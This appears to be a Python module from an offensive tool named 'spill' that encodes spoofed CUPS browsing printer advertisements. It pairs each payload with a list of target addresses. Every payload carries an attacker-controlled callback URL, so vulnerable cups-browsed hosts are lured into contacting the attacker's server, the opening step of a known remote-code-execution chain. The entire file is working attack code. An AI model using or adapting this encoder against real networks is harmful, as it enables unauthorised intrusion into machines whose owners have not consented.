"""
Spill Notification Encoder

Builds the UDP printer advertisement sent to every target. The body is
plain ASCII, space-separated:

    <marker-a:hex> <marker-b:hex> <callback-url> "Office HQ" "Printer"

which is the line format CUPS browsing listeners parse as
"type state uri location info". Output is fully deterministic.
"""

from __future__ import annotations
from typing import Iterable, List

from spill.constants import (
    NOTIFY_MARKER_A,
    NOTIFY_MARKER_B,
    NOTIFY_LOCATION,
    NOTIFY_INFO,
)
from spill.core.types import CallbackAddress, Destination, OutboundMessage


def callback_url(host: str, port: int, path: str) -> str:
    """Return the URL a target should call back on."""
    return CallbackAddress(host=host, port=port, path=path).url


def encode_notification(callback: CallbackAddress) -> bytes:
    """Encode the advertisement payload for one callback address."""
    fields = (
        f"{NOTIFY_MARKER_A:x}",
        f"{NOTIFY_MARKER_B:x}",
        callback.url,
        NOTIFY_LOCATION,
        NOTIFY_INFO,
    )
    return " ".join(fields).encode("ascii")


def build_messages(
    addresses: Iterable[str],
    port: int,
    callback: CallbackAddress
) -> List[OutboundMessage]:
    """
    Pair every address with the advertisement payload.

    The payload does not depend on the destination, so it is encoded once
    and shared by all messages.
    """
    payload = encode_notification(callback)
    return [
        OutboundMessage(destination=Destination(address=address, port=port), payload=payload)
        for address in addresses
    ]
